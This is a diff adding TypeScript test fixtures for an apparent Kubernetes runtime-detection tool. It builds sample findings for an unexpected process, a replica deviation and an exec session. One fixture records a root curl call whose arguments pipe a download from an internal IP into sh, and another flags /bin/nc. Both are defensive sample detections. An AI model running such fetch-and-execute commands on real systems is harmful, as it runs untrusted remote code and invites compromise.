@@ -1,0 +1,88 @@
+import type { Finding } from "@outlier/contracts";
+
+/**
+ * Findings shaped as the detectors write them (packages baseline, replicas, audit-rules),
+ * with the evidence the sinks read.
+ */
+
+export function unexpectedProcess(overrides: Partial<Finding> = {}): Finding {
+  return {
+    schema: "outlier.finding.v1",
+    id: "f-unexpected-1",
+    type: "process.unexpected",
+    severity: "critical",
+    time: "2024-05-01T10:00:00.123456789Z",
+    cluster: "prod-eu",
+    summary: "Unexpected process /usr/bin/curl in Deployment payments/checkout container app",
+    workload: {
+      kind: "Deployment",
+      name: "checkout",
+      namespace: "payments",
+      labels: { app: "checkout", team: "payments", "app.kubernetes.io/part-of": "shop" },
+      annotations: { "outlier.dev/slack-channel": "#payments-oncall" },
+    },
+    pod: "checkout-7d9f8-abcde",
+    container: "app",
+    node: "node-a",
+    process: {
+      binary: "/usr/bin/curl",
+      args: "-s http://10.0.0.9/x?a=1|sh",
+      pid: 4242,
+      uid: 0,
+      cwd: "/app",
+      parent: { binary: "/bin/sh", args: "-c curl", pid: 4200 },
+      ancestors: ["/bin/sh", "/usr/local/bin/node"],
+    },
+    evidence: {
+      denied: false,
+      singleReplica: true,
+      replicas: { live: 3, runningBinary: 1 },
+      baseline: { state: "locked", learningStartedAt: "2024-04-20T00:00:00Z", lockedAt: "2024-04-27T00:00:00Z", entryCount: 42, overflowCount: 0 },
+    },
+    dedupKey: "process.unexpected|prod-eu/payments/Deployment/checkout/app|/usr/bin/curl",
+    ...overrides,
+  };
+}
+
+export function replicaDeviation(overrides: Partial<Finding> = {}): Finding {
+  return {
+    ...unexpectedProcess(),
+    id: "f-replica-1",
+    type: "replica.deviation",
+    severity: "high",
+    summary: "Replica checkout-7d9f8-zzzzz of Deployment payments/checkout container app ran /bin/nc that no peer ran",
+    pod: "checkout-7d9f8-zzzzz",
+    node: "node-b",
+    process: undefined,
+    evidence: {
+      pod: "checkout-7d9f8-zzzzz",
+      reasons: ["unique-unknown-binary", "exec-rate"],
+      uniqueUnknownBinaries: ["/bin/nc"],
+      jaccard: { value: 0.4, median: 0.05, mad: 0.05, z: 4.7 },
+      execRate: { value: 12, median: 1, mad: 0.2, z: 37.1 },
+      peerCount: 4,
+    },
+    dedupKey: "replica.deviation|prod-eu/payments/Deployment/checkout|app|checkout-7d9f8-zzzzz",
+    ...overrides,
+  };
+}
+
+export function execSession(overrides: Partial<Finding> = {}): Finding {
+  return {
+    ...unexpectedProcess(),
+    id: "f-exec-1",
+    type: "exec.session",
+    severity: "medium",
+    summary: "alice@example.com exec into payments/checkout-7d9f8-abcde (app): sh; 3 process(es) run",
+    process: undefined,
+    evidence: {
+      user: { username: "alice@example.com", groups: ["system:authenticated"] },
+      sourceIPs: ["10.1.2.3"],
+      subresource: "exec",
+      command: ["sh"],
+      execCount: 3,
+    },
+    dedupKey: "exec.session|alice@example.com|payments/checkout-7d9f8-abcde/app",
+    ...overrides,
+  };
+}
